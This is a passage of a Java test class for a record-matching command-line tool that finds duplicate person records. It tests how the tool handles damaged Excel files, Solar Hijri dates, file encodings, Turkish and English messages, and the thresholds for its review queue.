		for (Map.Entry<String, java.util.function.UnaryOperator<String>> damage : damages) {
			Path input = Files.copy(whole, dir.resolve("damaged.xlsx"), java.nio.file.StandardCopyOption.REPLACE_EXISTING);
			rewriteEntry(input, "xl/worksheets/sheet1.xml", damage.getValue());
			err.reset();
			assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "en"))
				.as(damage.getKey()).isEqualTo(2);
			assertThat(errors()).as(damage.getKey())
				.contains("cannot be read as an Excel workbook", "(What failed: " + damage.getKey())
				.doesNotContainIgnoringCase("Zahra").doesNotContainIgnoringCase("Hosseini");
		}
		err.reset();
		assertThat(run("--input", dir.resolve("damaged.xlsx").toString(), "--output", dir.resolve("p.csv").toString(),
				"--lang", "tr")).isEqualTo(2);
		assertThat(errors()).endsWith("(Sorun: biçimin sayı olarak tuttuğu bir değer (satırın numarası, hücrenin "
				+ "başvurusu ya da stili, paylaşılan bir metnin numarası) sayı değil ya da hiçbir şeyi göstermiyor; yer: "
				+ "ilk sayfanın C3 hücresi.)\n").doesNotContain("Zahra");
	}

	/**
	 * A cell whose value is kept as an error's is told with the error a spreadsheet writes ({@code #NAME?}); another
	 * text kept so, which only a crafted or damaged workbook holds, is not repeated.
	 */
	@Test
	void aCellOfAnErrorThatIsNoneIsNotRepeated() throws Exception {
		Path input = dir.resolve("errors.xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(input)) {
			var sheet = workbook.createSheet("records");
			String[][] rows = { HEADER.strip().split(","), { "w1", "Fatma", "Hüseyni", "", "1994-03-12", "", "F", "AFG" },
					{ "w2", "Ali", "Veli", "", "1994-03-12", "", "M", "AFG" } };
			for (int r = 0; r < rows.length; r++) {
				var row = sheet.createRow(r);
				for (int c = 0; c < rows[r].length; c++) {
					row.createCell(c).setCellValue(rows[r][c]);
				}
			}
			workbook.write(stream);
		}
		rewriteEntry(input, "xl/worksheets/sheet1.xml", xml -> xml
			.replaceFirst("<c r=\"B3\"[^>]*><v>\\d+</v></c>", "<c r=\"B3\" t=\"e\"><v>Zahra Hosseini</v></c>")
			.replaceFirst("<c r=\"B2\"[^>]*><v>\\d+</v></c>", "<c r=\"B2\" t=\"e\"><v>#NAME?</v></c>"));
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "en")).isEqualTo(2);
		assertThat(errors()).contains("cell B2 of the sheet \"records\" (column given_names) holds the error \"#NAME?\"",
				"cell B3 of the sheet \"records\" (column given_names) holds the error (a value of 14 characters, not "
						+ "shown: it may be a name or a person's number)")
			.doesNotContain("Zahra").doesNotContain("Hosseini");
	}

	private static void rewriteEntry(Path zip, String entry, java.util.function.UnaryOperator<String> change)
			throws IOException {
		try (java.nio.file.FileSystem fs = java.nio.file.FileSystems.newFileSystem(zip)) {
			Path inside = fs.getPath(entry);
			String xml = Files.readString(inside);
			String changed = change.apply(xml);
			assertThat(changed).as("the entry was changed").isNotEqualTo(xml);
			Files.writeString(inside, changed);
		}
	}

	@Test
	void solarHijriDatesOfAfghanAndIranianCitizensAreConvertedAndImpossibleDatesLeftOut() throws Exception {
		Path input = file("records.csv", HEADER
				+ "g1,Zahra,Ahmadi,,1994-08-03,,F,AFG\n"
				+ "t1,Zahra,Ahmadi,,1373-05-12,,F,AFG\n"
				+ "y1,Zahra,Ahmadi,,,1373,F,IRN|AFG\n"
				+ "s1,Zahra,Ahmadi,,1373-05-12,,F,SYR\n"
				+ "s2,Zahra,Ahmadi,,,1373,F,\n"
				+ "b1,Zahra,Ahmadi,,1373-07-31,,F,AFG\n"
				+ "f1,Zahra,Ahmadi,,2094-08-03,,F,AFG\n"
				+ "f2,Zahra,Ahmadi,,,2094,F,AFG\n"
				+ "o1,Gulalai,Zadran,,1891-04-07,,F,AFG\n"
				+ "g2,Gulalai,Zadran,,1991-04-07,,F,AFG\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isZero();
		assertThat(errors())
			.contains("Line 3: birth_date \"1373-05-12\" read as a Solar Hijri date (citizenship AFG): 1994-08-03")
			.contains("Line 4: birth_year \"1373\" read as a Solar Hijri year (citizenship IRN): 1994, the year in which it begins")
			.contains("Line 5: birth_date \"1373-05-12\" is no birth date from 1900 to today, so the record is compared without it (a Solar Hijri date")
			.contains("Line 6: birth_year \"1373\" is no year from 1900 to this year, so the record is compared without it (a Solar Hijri year")
			.contains("Line 7: skipped: birth_date \"1373-07-31\" is not a date of the Solar Hijri calendar")
			.contains("Line 8: birth_date \"2094-08-03\" is no birth date from 1900 to today")
			.contains("Line 9: birth_year \"2094\" is no year from 1900 to this year")
			.contains("Line 10: birth_date \"1891-04-07\" is no birth date from 1900 to today")
			.contains("Records read: 10; skipped: 1");
		String pairs = Files.readString(dir.resolve("p.csv"));
		assertThat(pairs).contains("g1,t1,", "g1,y1,", "t1,y1,", "o1,g2,");
		// compared without the impossible date, not against the real one as a different date
		assertThat(pairs.lines().filter(line -> line.startsWith("o1,g2,")).findFirst().orElseThrow())
			.contains("date of birth missing in one record");
		assertThat(pairs.lines().filter(line -> line.startsWith("g1,t1,")).findFirst().orElseThrow())
			.contains("MATCH").contains("same date of birth");
	}

	@Test
	void yearsTypedIntoSpreadsheetDateCellsAndYearsOfTheWrongCenturyAreReadAsMeant() throws Exception {
		// a year typed into a cell formatted as a date shows as a day of 1905; a passport's "11" read as 1911
		Path input = file("records.csv", HEADER
				+ "e1,Gül,Öztürk,,1981-08-24,,F,TUR\n"
				+ "e2,GÜL,ÖZTÜRK,,1905-06-03,,F,TUR\n"
				+ "m1,Roman,Egorov,,2011-08-28,,M,RUS\n"
				+ "m2,ROMAN,EGOROV,,1911-08-28,,M,RUS\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isZero();
		assertThat(errors()).contains("Line 3: birth_date \"1905-06-03\" read as the year 1981 alone: a year typed into a "
				+ "spreadsheet cell formatted as a date")
			.contains("Line 5: birth_date \"1911-08-28\" read as 2011-08-28: a two-digit year (as a passport's "
					+ "machine-readable line writes it) taken in the wrong century");
		String pairs = Files.readString(dir.resolve("p.csv"));
		assertThat(pairs.lines().filter(line -> line.startsWith("e1,e2,")).findFirst().orElseThrow())
			.contains("MATCH").contains("same year of birth");
		assertThat(pairs.lines().filter(line -> line.startsWith("m1,m2,")).findFirst().orElseThrow())
			.contains("MATCH").contains("same date of birth");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "tr")).isZero();
		assertThat(errors()).contains("Satır 3: birth_date \"1905-06-03\" yalnızca 1981 yılı olarak okundu")
			.contains("Satır 5: birth_date \"1911-08-28\" 2011-08-28 olarak okundu: iki haneli bir yıl");
	}

	@Test
	void aConvertedDateIsReportedInTurkish() throws Exception {
		Path input = file("records.csv", HEADER + "t1,Zahra,Ahmadi,,1373-05-12,,F,AFG\nt2,Zahra,Ahmadi,,1373-07-31,,F,AFG\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "tr")).isZero();
		assertThat(errors()).contains("Satır 2: birth_date \"1373-05-12\" Hicri Şemsi tarih olarak okundu (vatandaşlık AFG): 1994-08-03")
			.contains("Satır 3: atlandı: birth_date \"1373-07-31\" Hicri Şemsi takvimde bir tarih değil");
	}

	@Test
	void messagesInTurkish() throws Exception {
		Path input = file("records.csv", HEADER + "a1,Ali,Karimi,,1990-02-30,,M,AFG\na2,Ali,Karimi,,,1990,M,AFG\n");
		run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "tr");
		assertThat(errors()).contains("Satır 2: atlandı: birth_date \"1990-02-30\" takvimde olmayan bir gün");
	}

	@Test
	void emptyFileEndsWithAClearMessage() throws Exception {
		assertThat(run("--input", file("empty.csv", "").toString(), "--output", dir.resolve("p.csv").toString())).isEqualTo(2);
		assertThat(errors()).contains("is empty");
		err.reset();
		assertThat(run("--input", file("header.csv", HEADER).toString(), "--output", dir.resolve("p.csv").toString()))
			.isEqualTo(2);
		assertThat(errors()).contains("has a header and no records below it");
	}

	@Test
	void missingHeaderColumnsAreNamed() throws Exception {
		Path input = file("records.csv", "id,given_names,family_names,birth_date,sex\na1,Ali,Karimi,1990-01-01,M\n");
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isEqualTo(2);
		assertThat(errors()).contains("Line 1, read as the header, lacks the columns: full_name_original "
				+ "(ozgun_ad_soyad), birth_year (dogum_yili), citizenship (vatandaslik). The header must name these "
				+ "columns, in any order, each by its English or its Turkish name: id,given_names,family_names,"
				+ "full_name_original,birth_date,birth_year,sex,citizenship or kayit_no,ad,soyadi,ozgun_ad_soyad,"
				+ "dogum_tarihi,dogum_yili,cinsiyet,vatandaslik;");
	}

	@Test
	void unreadableFile() {
		assertThat(run("--input", dir.resolve("missing.csv").toString(), "--output", dir.resolve("p.csv").toString()))
			.isEqualTo(2);
		assertThat(errors()).contains("missing.csv does not exist: check its name and its folder.");
	}

	@Test
	void aWindows1254FileIsRefusedUnlessItsEncodingIsNamed() throws Exception {
		Path input = dir.resolve("turkish.csv");
		Files.write(input, (HEADER + "t1,Şükrü,Çağlar,,1980-05-05,,M,TUR\nt2,Sukru,Caglar,,1980-05-05,,M,TUR\n")
			.getBytes(Charset.forName("windows-1254")));
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isEqualTo(2);
		// the line the first byte that is no UTF-8 stands on, as an editor counts, and the byte: Ş is DE in windows-1254
		assertThat(errors()).contains("is not UTF-8 text: line 2 has bytes that are no UTF-8 character (DE)")
			.contains("--encoding windows-1254");
		err.reset();
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--encoding",
				"windows-1254")).isZero();
		assertThat(Files.readString(dir.resolve("p.csv"))).contains("t1,t2,").contains("MATCH");
		err.reset();
		// named wrongly, the encoding is refused too, rather than its bytes read as something else
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--encoding",
				"UTF-8")).isEqualTo(2);
		assertThat(errors()).contains("is not UTF-8 text: some of its bytes are no character of that encoding (the first "
				+ "on line 2: DE)");
		err.reset();
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "tr"))
			.isEqualTo(2);
		assertThat(errors()).contains("UTF-8 metin değil: 2. satırda UTF-8 karakteri olmayan baytlar var (DE)");
	}

	@Test
	void aFileMostlyUtf8IsRefusedWithTheLineOfItsFirstOtherByte() throws Exception {
		// a legacy file pasted together: UTF-8 records, then one line saved by Turkish Excel (ç is E7 there)
		Path input = dir.resolve("mixed.csv");
		byte[] utf8 = (HEADER + "a1,Ayşe,Yılmaz,,1990-01-02,,F,TUR\na2,Zeynep,Kaya,,,1985,F,TUR\n")
			.getBytes(StandardCharsets.UTF_8);
		byte[] legacy = "a3,Ayşe,Koç,,,1979,F,TUR\n".getBytes(Charset.forName("windows-1254"));
		byte[] all = Arrays.copyOf(utf8, utf8.length + legacy.length);
		System.arraycopy(legacy, 0, all, utf8.length, legacy.length);
		Files.write(input, all);
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isEqualTo(2);
		assertThat(errors()).contains("line 4 has bytes that are no UTF-8 character (FE)");
	}

	@Test
	void semicolonsTabsAndAByteOrderMarkAreRead() throws Exception {
		Path semicolons = file("s.csv", "\uFEFF" + PEOPLE.replace(',', ';'));
		assertThat(run("--input", semicolons.toString(), "--output", dir.resolve("p1.csv").toString())).isZero();
		assertThat(Files.readString(dir.resolve("p1.csv"))).contains("g1,c9,");
		Path tabs = file("t.tsv", PEOPLE.replace(',', '\t'));
		assertThat(run("--input", tabs.toString(), "--output", dir.resolve("p2.csv").toString())).isZero();
		assertThat(Files.readString(dir.resolve("p2.csv"))).contains("g1,c9,");
	}

	@Test
	void excelWorkbooksAreRead() throws Exception {
		Path input = dir.resolve("records.xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(input)) {
			var sheet = workbook.createSheet("register");
			String[] lines = PEOPLE.split("\n");
			for (int r = 0; r < lines.length; r++) {
				String[] cells = lines[r].split(",", -1);
				var row = sheet.createRow(r);
				for (int c = 0; c < cells.length; c++) {
					row.createCell(c).setCellValue(cells[c]);
				}
			}
			workbook.write(stream);
		}
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString())).isZero();
		assertThat(Files.readString(dir.resolve("p.csv"))).contains("g1,c9,");
	}

	@Test
	void excelDatesNumbersEmptyRowsColumnsAndBadRowsAreReadAsASpreadsheetHoldsThem() throws Exception {
		Path input = dir.resolve("legacy.xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(input)) {
			var sheet = workbook.createSheet("2019");
			var dates = workbook.createCellStyle();
			dates.setDataFormat(workbook.getCreationHelper().createDataFormat().getFormat("dd.mm.yyyy"));
			String[] header = HEADER.strip().split(",");
			var first = sheet.createRow(1); // the first row is left empty, as title rows often are
			for (int c = 0; c < header.length; c++) {
				first.createCell(c + 1).setCellValue(header[c]); // the table begins in column B
			}
			Object[][] rows = {
					{ 1001, "Fatma", "Hüseyni", "", LocalDate.of(1994, 3, 12), "", "F", "AFG" },
					{ 1002, "Фатима", "Хусейни", "", LocalDate.of(1994, 3, 12), "", "F", "AFG" },
					{ 1003, "Fatemeh", "Hosseini", "", "", 1994, "F", "AFG" },
					{ 1004, "Ahmet", "Karaca", "", "", 1971, "Q", "TUR" },
					// ids of twelve and more digits, typed as numbers: Excel's General format shows them rounded
					{ 123456789012L, "Olga", "Petrova", "", LocalDate.of(1988, 11, 2), "", "F", "UKR" },
					{ 123456789013L, "Ольга", "Петрова", "", LocalDate.of(1988, 11, 2), "", "F", "UKR" } };
			for (int r = 0; r < rows.length; r++) {
				var row = sheet.createRow(3 + r); // an empty row between the header and the records
				for (int c = 0; c < rows[r].length; c++) {
					var cell = row.createCell(c + 1);
					if (rows[r][c] instanceof Number number) {
						cell.setCellValue(number.doubleValue());
					}
					else if (rows[r][c] instanceof LocalDate date) {
						cell.setCellValue(date);
						cell.setCellStyle(dates);
					}
					else if (!rows[r][c].toString().isEmpty()) {
						cell.setCellValue(rows[r][c].toString());
					}
				}
			}
			workbook.write(stream);
		}
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "en"))
			.isZero();
		List<CSVRecord> pairs = pairs(dir.resolve("p.csv"));
		assertThat(pairs).anyMatch(p -> p.get("left_id").equals("1001") && p.get("right_id").equals("1002")
				&& p.get("explanation").startsWith("same date of birth"));
		assertThat(pairs).anyMatch(p -> p.get("right_id").equals("1003"));
		// the sixth row of the sheet (a sex that is not M or F): its line number as the spreadsheet shows it
		assertThat(errors()).contains("Line 7: sex \"Q\" is not M, F").contains("Records read: 6; skipped: 0");
		assertThat(pairs).anyMatch(p -> p.get("left_id").equals("123456789012") && p.get("right_id").equals("123456789013"));
	}

	@Test
	void aWorkbookWithoutTheColumnsOrThatIsNoWorkbookEndsTheRun() throws Exception {
		Path input = dir.resolve("names.xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(input)) {
			var row = workbook.createSheet("names").createRow(0);
			row.createCell(0).setCellValue("id");
			row.createCell(1).setCellValue("name");
			workbook.write(stream);
		}
		assertThat(run("--input", input.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "en"))
			.isEqualTo(2);
		assertThat(errors()).contains("Line 1, read as the header, lacks the columns: given_names");
		err.reset();
		Path notAWorkbook = file("records.xlsx", PEOPLE);
		assertThat(run("--input", notAWorkbook.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "en"))
			.isEqualTo(2);
		assertThat(errors()).contains("cannot be read as an Excel workbook: it is damaged (cut short, as a download or a "
				+ "copy that stopped halfway leaves it), protected by a password, or not what its name says.")
			.contains("(What failed: the file is no zip archive, as a workbook is, or a damaged or incomplete one.)");
		err.reset();
		Path empty = dir.resolve("empty.xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(empty)) {
			workbook.createSheet("empty");
			workbook.write(stream);
		}
		assertThat(run("--input", empty.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "en"))
			.isEqualTo(2);
		assertThat(errors()).contains("is empty");
	}

	@Test
	void theSummaryTellsWhetherThePriorWasLoweredForAFileThatRepeatsPeopleLessOften() throws Exception {
		Path usual = register("usual", GeneratorConfig.forRecords(5_000, 11));
		assertThat(run("--input", usual.toString(), "--output", dir.resolve("p1.csv").toString())).isZero();
		assertThat(errors()).contains("the prior is used as fitted").doesNotContain("lowered");

		// nine people in ten registered once: about a third as many near-certain pairs per record
		Path rare = register("rare", GeneratorConfig.forRecords(5_000, 12).withRecordsPerPerson(0.9, 0.08, 0.02));
		err.reset();
		assertThat(run("--input", rare.toString(), "--output", dir.resolve("p2.csv").toString(), "--lang", "tr")).isZero();
		// Turkish writes its decimals with a comma
		var lowered = Pattern.compile("kayıt başına 0,\\d{3} \\(.* için 0,\\d{3}\\): .* ön olasılık (\\d+,\\d{2}) bit "
				+ "düşürüldü").matcher(errors());
		assertThat(lowered.find()).as(errors()).isTrue();
		assertThat(Double.parseDouble(lowered.group(1).replace(',', '.'))).isBetween(1.0, 2.5);

		// most people registered two to six times: more near-certain pairs per record, the prior raised
		Path often = register("often", GeneratorConfig.forRecords(5_000, 14).withRecordsPerPerson(0.2, 0.2, 0.2, 0.2,
				0.1, 0.1));
		err.reset();
		assertThat(run("--input", often.toString(), "--output", dir.resolve("p3.csv").toString(), "--lang", "en"))
			.isZero();
		var raised = Pattern.compile("the prior odds were raised by ([0-9.]+) bits").matcher(errors());
		assertThat(raised.find()).as(errors()).isTrue();
		assertThat(Double.parseDouble(raised.group(1))).isBetween(0.25, 1.0);
	}

	@Test
	void withThePriorRaisedAHigherLimitGivesThePairsOfALowerOneAboveIt() throws Exception {
		// most people registered two to six times: the prior is raised, and scores with it
		Path often = register("often", GeneratorConfig.forRecords(3_000, 7).withRecordsPerPerson(0.1, 0.2, 0.3, 0.2,
				0.1, 0.1));
		assertThat(run("--input", often.toString(), "--output", dir.resolve("low.csv").toString(), "--threshold-match",
				"0.5", "--threshold-possible", "0.05")).isZero();
		assertThat(errors()).contains("the prior odds were raised");
		assertThat(run("--input", often.toString(), "--output", dir.resolve("high.csv").toString(), "--threshold-match",
				"0.5", "--threshold-possible", "0.25")).isZero();
		// the same clusters and MATCH pairs; every pair the lower limit gives with a score of 0.25 or more, the higher
		// gives too, and every pair the higher limit gives, the lower gives as well (a pair below 0.25 whose clusters
		// taken together are likely enough)
		List<String> fromLow = pairs(dir.resolve("low.csv")).stream()
			.map(p -> p.get("left_id") + "," + p.get("right_id") + "," + p.get("decision"))
			.toList();
		List<CSVRecord> high = pairs(dir.resolve("high.csv"));
		List<String> fromHigh = high.stream()
			.map(p -> p.get("left_id") + "," + p.get("right_id") + "," + p.get("decision"))
			.toList();
		assertThat(fromHigh).isNotEmpty();
		assertThat(fromLow).containsAll(fromHigh);
		assertThat(fromHigh).containsAll(pairs(dir.resolve("low.csv")).stream()
			.filter(p -> p.get("decision").equals("MATCH") || Double.parseDouble(p.get("score")) >= 0.25)
			.map(p -> p.get("left_id") + "," + p.get("right_id") + "," + p.get("decision"))
			.toList());
		assertThat(high).filteredOn(p -> p.get("decision").equals("POSSIBLE")).allMatch(p -> likelihood(p) >= 0.25);
	}

	/**
	 * A POSSIBLE pair's likelihood: its own score, or the likelihood of its two clusters taken together that its
	 * explanation gives when the score is below the queue's limit.
	 */
	private static double likelihood(CSVRecord pair) {
		var clusters = Pattern.compile("make them one person with a likelihood of (0\\.\\d\\d)|onları (0,\\d\\d) olasılıkla tek kişi")
			.matcher(pair.get("explanation"));
		if (clusters.find()) {
			return Double.parseDouble(clusters.group(1) != null ? clusters.group(1) : clusters.group(2).replace(',', '.'));
		}
		return Double.parseDouble(pair.get("score"));
	}

	@Test
	void theReviewQueueReachesBelowTheUsualLimitWhileItIsShorterThanTheMatchList() throws Exception {
		Path register = register("register", GeneratorConfig.forRecords(3_000, 13));
		assertThat(run("--input", register.toString(), "--output", dir.resolve("filled.csv").toString())).isZero();
		var lengthened = Pattern.compile("POSSIBLE from a likelihood of ([0-9.]+) \\(a pair's own score, or its two "
				+ "clusters' taken together, whichever is higher\\), below the usual 0.25").matcher(errors());
		assertThat(lengthened.find()).as(errors()).isTrue();
		List<CSVRecord> filled = pairs(dir.resolve("filled.csv"));
		long matches = filled.stream().filter(p -> p.get("decision").equals("MATCH")).count();
		List<Double> queue = filled.stream().filter(p -> p.get("decision").equals("POSSIBLE"))
			.map(BulkMatchCommandTests::likelihood).toList();
		assertThat(queue.size()).isLessThanOrEqualTo((int) matches);
		assertThat(queue).anyMatch(likelihood -> likelihood < 0.25).allMatch(likelihood -> likelihood >= 0.05 - 0.005);
		// the clusters' likelihood is shown with two decimals in an explanation, the limit with three
		assertThat(Double.parseDouble(lengthened.group(1))).isGreaterThanOrEqualTo(0.05);
		assertThat(queue.stream().mapToDouble(Double::doubleValue).min().orElseThrow())
			.isCloseTo(Double.parseDouble(lengthened.group(1)), offset(0.005));
		assertThat(filled).filteredOn(p -> p.get("explanation").contains("through the two clusters"))
			.isNotEmpty().allMatch(p -> Double.parseDouble(p.get("score")) < Double.parseDouble(lengthened.group(1)));

		// a limit of the user's is kept as given: the same MATCH pairs, no POSSIBLE below it
		err.reset();
		assertThat(run("--input", register.toString(), "--output", dir.resolve("fixed.csv").toString(),
				"--threshold-possible", "0.25")).isZero();
		assertThat(errors()).doesNotContain("Review queue");
		List<CSVRecord> fixed = pairs(dir.resolve("fixed.csv"));
		assertThat(fixed).filteredOn(p -> p.get("decision").equals("POSSIBLE")).allMatch(p -> likelihood(p) >= 0.25);
		assertThat(fixed.stream().filter(p -> p.get("decision").equals("MATCH")).map(p -> p.get("left_id") + p.get("right_id")))
			.containsExactlyElementsOf(filled.stream().filter(p -> p.get("decision").equals("MATCH"))
				.map(p -> p.get("left_id") + p.get("right_id")).toList());
		assertThat(fixed.size() - matches).isLessThan(queue.size());
	}

	@Test
	void aReviewQueueLongerThanTheMatchListIsShortenedToItsLikeliestPairs() throws Exception {
		// a strict MATCH limit leaves fewer MATCH pairs than the pairs from the usual POSSIBLE limit
		Path register = register("register", GeneratorConfig.forRecords(3_000, 13));
		assertThat(run("--input", register.toString(), "--output", dir.resolve("all.csv").toString(),
				"--threshold-match", "0.995", "--threshold-possible", "0.25")).isZero();
		List<CSVRecord> all = pairs(dir.resolve("all.csv"));
		long matches = all.stream().filter(p -> p.get("decision").equals("MATCH")).count();
		assertThat(all.size() - matches).as("pairs from 0.25").isGreaterThan(matches).isGreaterThan(100);

		err.reset();
		assertThat(run("--input", register.toString(), "--output", dir.resolve("cut.csv").toString(), "--lang", "tr",
				"--threshold-match", "0.995")).isZero();
		var shortened = Pattern.compile("POSSIBLE, olağan 0,25 sınırının üstünde, (0,\\d+) olasılıktan başlıyor \\(çiftin kendi "
				+ "puanı ya da iki kümesinin birlikte olasılığı, hangisi yüksekse\\), çünkü kuyruk en çok MATCH listesi kadar "
				+ "\\((\\d+)\\) çift alır; dışarıda kalan").matcher(errors());
		assertThat(shortened.find()).as(errors()).isTrue();
		List<CSVRecord> cut = pairs(dir.resolve("cut.csv"));
		// a likelihood in a Turkish explanation is written as Turkish writes it, the score of the pair with its point
		assertThat(cut).filteredOn(p -> p.get("explanation").contains("iki küme üzerinden POSSIBLE")).isNotEmpty()
			.allMatch(p -> p.get("explanation").matches(".*onları 0,\\d\\d olasılıkla tek kişi yapıyor.*"))
			.allMatch(p -> p.get("score").matches("0\\.\\d{4}"));
		List<Double> queue = cut.stream().filter(p -> p.get("decision").equals("POSSIBLE"))
			.map(BulkMatchCommandTests::likelihood).toList();
		assertThat(cut.size() - queue.size()).isEqualTo(matches);
		assertThat(queue.size()).isLessThanOrEqualTo((int) matches).isGreaterThan((int) matches * 9 / 10);
		double from = Double.parseDouble(shortened.group(1).replace(',', '.'));
		assertThat(from).isGreaterThan(0.25);
		assertThat(Long.parseLong(shortened.group(2))).isEqualTo(matches);
		// the pairs left out are the least likely ones
		assertThat(queue).allMatch(likelihood -> likelihood >= from - 0.005);
		Set<String> kept = cut.stream().map(p -> p.get("left_id") + " " + p.get("right_id")).collect(Collectors.toSet());
		assertThat(all.stream().filter(p -> !kept.contains(p.get("left_id") + " " + p.get("right_id"))))
			.hasSize(all.size() - cut.size())
			.as("from %s", from).allMatch(p -> likelihood(p) <= from + 0.005);
	}

	@Test
	void aQueueLongerThanAShortMatchListSaysItsHundredPairs() throws Exception {
		// a strict MATCH limit on a register of people seldom registered twice: fewer MATCH pairs than the queue's hundred
		Path register = register("register", GeneratorConfig.forRecords(2_000, 13).withRecordsPerPerson(0.97, 0.03));
		assertThat(run("--input", register.toString(), "--output", dir.resolve("short.csv").toString(),
				"--threshold-match", "0.95")).isZero();
		List<CSVRecord> pairs = pairs(dir.resolve("short.csv"));
		long matches = pairs.stream().filter(p -> p.get("decision").equals("MATCH")).count();
		long queue = pairs.size() - matches;
		assertThat(matches).isLessThan(queue).isLessThan(100);
		assertThat(queue).isLessThanOrEqualTo(100);
		// not "no longer than the MATCH list", which it is
		assertThat(errors()).containsPattern("Review queue: POSSIBLE from a likelihood of 0\\.\\d{3} \\(a pair's own "
				+ "score, or its two clusters' taken together, whichever is higher\\), (below|above) the usual 0.25, as the "
				+ "queue holds up to 100 pairs when the MATCH list is shorter \\(" + matches + " MATCH pairs here\\)[.;]");
	}

	@Test
	void datesAsTurkishSpreadsheetsAndArabicScriptDocumentsWriteThemAreRead() throws Exception {
		// a file all in Turkish Excel's dd.mm.yyyy skipped every row
		StringBuilder dotted = new StringBuilder(HEADER);
		String[] families = { "Yılmaz", "Demir", "Kaya" };
		for (int i = 0; i < 6; i++) {
			dotted.append("t").append(i).append(",Ayşe,").append(families[i / 2]).append(",,0").append(1 + i / 2)
				.append(".03.1990,,F,TUR\n");
		}
		assertThat(run("--input", file("dotted.csv", dotted.toString()).toString(), "--output",
				dir.resolve("p1.csv").toString())).isZero();
		assertThat(errors()).contains("Records read: 6; skipped: 0").doesNotContain("birth_date");
		assertThat(Files.readString(dir.resolve("p1.csv"))).contains("t0,t1,", "t2,t3,", "t4,t5,");
		err.reset();
		Path written = file("written.csv", HEADER
				+ "12,Fatemeh,Hosseini,,12.03.1994,,F,AFG\n"
				+ "13,Fatemeh,Hosseini,,1994-3-12,,F,AFG\n"
				+ "14,Fatemeh,Hosseini,,١٩٩٤-٠٣-١٢,,F,AFG\n"
				+ "15,Fatemeh,Hosseini,,,۱۳۷۳,F,AFG\n"
				// the same id in Persian digits
				+ "۱۲,Ahmad,Karimi,,,1980,M,AFG\n"
				+ "16,Ahmad,Karimi,,03/12/1994,,M,AFG\n");
		assertThat(run("--input", written.toString(), "--output", dir.resolve("p2.csv").toString())).isZero();
		assertThat(errors()).contains("Line 5: birth_year \"۱۳۷۳\" read as a Solar Hijri year (citizenship AFG): 1994, "
				+ "the year in which it begins", "Line 6: skipped: the id \"۱۲\" appears more than once",
				"Line 7: skipped: birth_date \"03/12/1994\" is not a date written yyyy-mm-dd", "Records read: 6; skipped: 2")
			.doesNotContain("Line 2:", "Line 3:", "Line 4:");
		assertThat(Files.readString(dir.resolve("p2.csv"))).contains("12,13,", "12,14,", "12,15,", "13,14,");
	}

	@Test
	void theMatchPairsAreThePairsOfEachClusterAndTheirExplanationsSaySoWhereTheScoreAloneDiffers() throws Exception {
		Path register = register("register", GeneratorConfig.forRecords(3_000, 17));
		assertThat(run("--input", register.toString(), "--output", dir.resolve("pairs.csv").toString(), "--clusters",
				dir.resolve("clusters.csv").toString())).isZero();
		Map<String, String> cluster = new HashMap<>();
		for (CSVRecord row : pairs(dir.resolve("clusters.csv"))) {
			cluster.put(row.get("id"), row.get("cluster_id"));
		}
		Map<String, Long> sizes = cluster.values().stream().collect(Collectors.groupingBy(c -> c, Collectors.counting()));
		long clusterPairs = sizes.values().stream().mapToLong(k -> k * (k - 1) / 2).sum();
		List<CSVRecord> pairs = pairs(dir.resolve("pairs.csv"));
		List<CSVRecord> matches = pairs.stream().filter(p -> p.get("decision").equals("MATCH")).toList();
		// every MATCH is within a cluster, every two records of a cluster are a MATCH, no POSSIBLE is within one
		assertThat(matches).allMatch(p -> cluster.get(p.get("left_id")).equals(cluster.get(p.get("right_id"))));
		assertThat(matches).hasSize((int) clusterPairs);
		assertThat(pairs.stream().map(p -> p.get("left_id") + " " + p.get("right_id")).distinct()).hasSize(pairs.size());
		assertThat(pairs).allMatch(p -> p.get("left_id").compareTo(p.get("right_id")) < 0);
		assertThat(pairs).filteredOn(p -> p.get("decision").equals("POSSIBLE"))
			.allMatch(p -> !cluster.get(p.get("left_id")).equals(cluster.get(p.get("right_id"))));
		List<CSVRecord> joined = matches.stream().filter(p -> Double.parseDouble(p.get("score")) < 0.5).toList();
		List<CSVRecord> parted = pairs.stream()
			.filter(p -> p.get("decision").equals("POSSIBLE") && Double.parseDouble(p.get("score")) >= 0.5).toList();
		assertThat(joined).isNotEmpty().allMatch(p -> p.get("explanation").endsWith("make it one person"));
		assertThat(parted).isNotEmpty().allMatch(p -> p.get("explanation").endsWith("more likely two people"));
		List<CSVRecord> throughClusters = pairs.stream()
			.filter(p -> p.get("explanation").contains("; POSSIBLE through the two clusters: ")).toList();
		assertThat(throughClusters).isNotEmpty().allMatch(p -> p.get("decision").equals("POSSIBLE"));
		assertThat(errors()).contains("MATCH pairs follow the clusters. Scored below 0.50 but MATCH through their cluster: "
				+ joined.size() + "; scored from 0.50 but POSSIBLE, as the other records of their two clusters keep them apart: "
